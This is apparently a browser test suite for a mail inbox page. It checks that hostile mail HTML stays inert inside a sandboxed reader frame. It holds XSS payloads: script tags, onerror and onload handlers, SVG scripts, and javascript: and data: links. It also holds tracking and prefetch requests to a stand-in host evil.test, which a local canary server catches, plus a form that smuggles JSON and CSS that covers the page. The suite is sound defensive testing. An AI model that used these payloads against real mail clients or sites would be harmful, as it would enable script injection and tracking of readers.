/**
 * Mails that attack their reader. Every host that they name leads to a server of this test, which nobody may reach:
 * not with a request and not with a mere connection.
 */
import { createServer, type AddressInfo, type Server } from 'node:net'
import { expect } from 'chai'
import { describeInBrowser, expectInnocence, sendMail, visit, type Visit } from './browser.js'

const attacks: Readonly<Record<string, string>> = {
  'script tags': `<script>top.hacked = parent.hacked = 1; alert(1)</script><script src="http://evil.test/a.js"></script>
    <script type="module">import 'http://evil.test/m.js'</script>`,
  'event handlers': `<img src="x" onerror="alert(1)"><body onload="alert(2)"><details open ontoggle="alert(3)">d</details>
    <input autofocus onfocus="alert(4)"><video><source onerror="alert(5)"></video>`,
  'an SVG with script': `<svg onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text y="20">x</text></a>
    <foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject>
    <image href="http://evil.test/i.svg"/><use href="http://evil.test/u.svg#a"/></svg>
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(5)</script></svg>">`,
  'remote content': `<img src="http://evil.test/pixel.gif" srcset="http://evil.test/2x.gif 2x"><body background="http://evil.test/b.gif">
    <style>@import 'http://evil.test/a.css'; @font-face { font-family: f; src: url(http://evil.test/f.woff) }
    p { font-family: f; background: url(http://evil.test/bg.png); list-style: url(http://evil.test/l.png) }</style><p>text</p>
    <video src="http://evil.test/v.mp4" poster="http://evil.test/p.png" autoplay></video><audio src="http://evil.test/a.mp3"></audio>
    <iframe src="http://evil.test/f.html"></iframe><object data="http://evil.test/o"></object><embed src="http://evil.test/e">
    <frameset><frame src="http://evil.test/fs"></frameset><input type="image" src="http://evil.test/in.png">`,
  'connections in advance': `<link rel="preconnect" href="http://evil.test"><link rel="dns-prefetch" href="//evil.test">
    <LINK/rel="prefetch" href="http://evil.test/pf"><link rel="stylesheet" href="http://evil.test/s.css">
    <link rel="preload" as="image" href="http://evil.test/pl.png"><link rel="modulepreload" href="http://evil.test/mp.js">
    <link rel="icon" href="http://evil.test/favicon.ico"><link rel="manifest" href="http://evil.test/m.json">`,
  'a base tag': `<base href="http://evil.test/" target="_top"><img src="relative.png"><a href="page">link</a>`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=http://evil.test/r"><p>text</p>
    <meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  'the page within the mail': `<iframe src="/" style="width:100%;height:600px"></iframe><iframe src="/api/mails"></iframe>
    <iframe srcdoc="<script>alert(1)</script>"></iframe>`,
}

const links: Readonly<Record<string, string>> = {
  'a javascript: link': `<a id="x" href="javascript:alert(document.domain)">x</a>`,
  'a link that aims at the whole page': `<a id="x" href="http://evil.test/top" target="_top">x</a>`,
  'a link that opens a window': `<a id="x" href="http://evil.test/blank" target="_blank" ping="http://evil.test/ping">x</a>`,
  'a data: link': `<a id="x" href="data:text/html,<script>alert(1)</script>">x</a>`,
  'a download': `<a id="x" href="http://evil.test/d" download>x</a>`,
  'an ordinary link': `<a id="x" href="http://evil.test/a">x</a>`,
  'a link that gets its address later': `<svg><a id="x"><set attributeName="href" to="http://evil.test/set"/>
    <animate attributeName="xlink:href" values="http://evil.test/an"/><text y="20">x</text></a></svg>`,
  'a form': `<form action="http://evil.test/post" method="post"><input name="q" value="1"><button id="x">x</button></form>`,
  'a form that aims at the sandbox': `<form action="/api/faults" method="post" enctype="text/plain" target="_top">
    <input name='{"fault":{"kind":"reset","at":"headers"},"x":"' value='"}'><button id="x">x</button></form>`,
  'a button that aims elsewhere': `<form><button id="x" formaction="http://evil.test/fa" formtarget="_top">x</button></form>`,
}

/** The browser's own words for what it kept from happening. */
const isRefusalToObey = (error: string): boolean =>
  /Content Security Policy|sandboxed|Blocked|Refused|Not allowed|Unsafe attempt|ERR_BLOCKED_BY_(?:CSP|RESPONSE)|frame-ancestors/i.test(
    error,
  )

const reached: Array<string> = []

const canary: Server = createServer((socket) => {
  reached.push('a connection')
  socket.on('data', (data) => reached.push(data.toString('latin1').split('\r\n')[0] ?? ''))
  socket.on('error', () => undefined)
})

const listen = (): Promise<ReadonlyArray<string>> =>
  new Promise((resolve) => {
    canary.listen(0, '127.0.0.1', () => {
      // As it listens on a port, its address is not a path.
      const { port } = canary.address() as AddressInfo
      resolve([`--host-resolver-rules=MAP evil.test 127.0.0.1:${port}`])
    })
  })

const attackSuite = (): void => {
  after(() => {
    canary.close()
  })
  beforeEach(() => {
    reached.length = 0
  })

  const open = async ({ page, sandbox }: Visit, content: string): Promise<void> => {
    // What the template fills in is escaped, so the attack is the template.
    const envId = await sendMail(sandbox, { content: `<p>first</p>${content}<p>last</p>` })
    await page.locator(`#list [data-id="mail/${envId}"] .row`).click()
    await page.locator('#reader iframe').waitFor()
  }

  /** Long enough for a refresh, a prefetch or a timer of the mail to have happened. */
  const settle = ({ page }: Visit) => page.waitForTimeout(600)

  const expectUnharmed = async ({ page, sandbox, misdeeds }: Visit): Promise<void> => {
    // A request that the browser keeps from leaving is announced all the same; the canary knows which left.
    misdeeds.foreign.length = 0
    misdeeds.errors.splice(0, Infinity, ...misdeeds.errors.filter((error) => !isRefusalToObey(error)))
    expect(reached).to.deep.equal([])
    expectInnocence(misdeeds)
    expect(page.url().startsWith(`${sandbox.endpoint}/`)).to.equal(true)
    expect(await page.evaluate('window.hacked')).to.equal(undefined)
    expect(sandbox.requests()).to.equal(1)
    for (const tab of ['Text', 'Source', 'Request', 'HTML'])
      await page.getByRole('tab', { name: tab }).click()
    await sendMail(sandbox, { type: 'Register' })
    await page.locator('#list .row', { hasText: 'Register' }).waitFor()
    expect(misdeeds.dialogs).to.deep.equal([])
    misdeeds.errors.splice(0, Infinity, ...misdeeds.errors.filter((error) => !isRefusalToObey(error)))
    misdeeds.foreign.length = 0
    expect(reached).to.deep.equal([])
  }

  it('is tested with a host that could be reached', () =>
    visit({}, async ({ page, misdeeds }) => {
      await page.goto('http://evil.test/hello', { timeout: 1500 }).catch(() => undefined)
      expect(reached).to.include('GET /hello HTTP/1.1')
      misdeeds.foreign.length = misdeeds.navigations.length = misdeeds.errors.length = 0
    }))

  for (const [name, content] of Object.entries(attacks)) {
    it(`with ${name} is inert`, () =>
      visit({}, async (seen) => {
        await open(seen, content)
        await settle(seen)
        await expectUnharmed(seen)
      }))
  }

  for (const [name, content] of Object.entries(links)) {
    it(`with ${name} is inert when it is clicked`, () =>
      visit({}, async (seen) => {
        await open(seen, content)
        await seen.page.frameLocator('#reader iframe').locator('#x').click()
        await settle(seen)
        await expectUnharmed(seen)
      }))
  }

  it('with CSS that covers the page covers its own frame and no more', () =>
    visit({}, async (seen) => {
      const { page } = seen
      await open(
        seen,
        `<style>* { position: fixed !important; inset: 0; z-index: 2147483647; background: red; cursor: none }
          html { width: 9999px; height: 9999px }</style><div style="position:fixed;top:-9999px;width:99999px;height:99999px">x</div>`,
      )
      await settle(seen)
      const frame = await page.locator('#reader iframe').boundingBox()
      expect(frame?.x).to.be.above(370)
      expect((frame?.y ?? 0) + (frame?.height ?? 0)).to.be.below(721)
      await expectUnharmed(seen)
      await page.getByRole('button', { name: 'Delete all' }).click()
      await page.getByRole('button', { name: 'Cancel' }).click()
    }))

  it('with hostile text in every field shows it as text', () =>
    visit({}, async (seen) => {
      const { page, sandbox } = seen
      await sendMail(sandbox, {
        code: '<img src=x onerror=alert(1)>',
        content: '{{code}}',
        contentType: 'text/plain',
      })
      await page.locator('#list .row').click()
      expect(await page.locator('#reader h2').textContent()).to.equal('SignIn <img src=x onerror=alert(1)>')
      await page.getByRole('tab', { name: 'Request' }).click()
      expect(await page.locator('#reader img').count()).to.equal(0)
    }))

  it('of 5 MB shows at once, in part, and as a whole without freezing the page', () =>
    visit({}, async ({ page, sandbox, misdeeds }) => {
      const line = `<div style="color:red">${'x'.repeat(76)}</div>\n`
      const content = line.repeat(Math.floor((5 * 1024 * 1024 - 200) / line.length))
      await sendMail(sandbox, { content })
      await page.evaluate(`window.slowest = 0; window.last = performance.now()
        setInterval(() => { const now = performance.now(); slowest = Math.max(slowest, now - last); last = now }, 10)`)
      await page.locator('#list .row').click()
      await page.getByText('This mail has 5.2 MB of HTML.').waitFor()
      await page.getByRole('tab', { name: 'Text' }).click()
      await page.getByRole('tab', { name: 'Request' }).click()
      await page.getByText(/^The first 2 kB of 5\.2 MB/).waitFor()
      await page.getByRole('tab', { name: 'Source' }).click()
      await page.getByText(/^The first 6\d(?:\.\d)? kB of 5\.2 MB/).waitFor()
      const source = page.getByRole('tabpanel', { name: 'Source' })
      await source.getByRole('button', { name: 'Show all' }).click()
      await page.locator('.bar[aria-busy]').waitFor({ state: 'detached' })
      expect((await source.locator('pre').textContent())?.length).to.be.above(5_000_000)
      expect(await page.evaluate('window.slowest')).to.be.below(5000)
      await page.getByRole('tab', { name: 'HTML' }).click()
      await page.getByRole('button', { name: 'Show it' }).click()
      await sendMail(sandbox, { type: 'Register' })
      await page.locator('#list .row', { hasText: 'Register' }).click()
      await page.getByRole('heading', { name: 'Register' }).waitFor()
      expect(misdeeds.errors).to.deep.equal([])
    }))

  it('of one endless line, or of nothing but tags, does not freeze the page', () =>
    visit({}, async ({ page, sandbox }) => {
      for (const unit of ['x', '<', '<a "', '<td> ', '&', `<b title='>`, '<!--', '<style>', '<a href= ']) {
        const started = Date.now()
        const envId = await sendMail(sandbox, { content: unit.repeat(Math.floor(900_000 / unit.length)) })
        await page.locator(`#list [data-id="mail/${envId}"] .row`).click()
        await page.getByRole('tab', { name: 'Text' }).click()
        await page.getByRole('tab', { name: 'Source' }).click()
        await page.getByRole('button', { name: 'Show all' }).click()
        await page.locator('.bar[aria-busy]').waitFor({ state: 'detached' })
        expect(Date.now() - started, unit).to.be.below(15_000)
      }
    }))
}

describeInBrowser('inbox page: a hostile mail', attackSuite, listen)
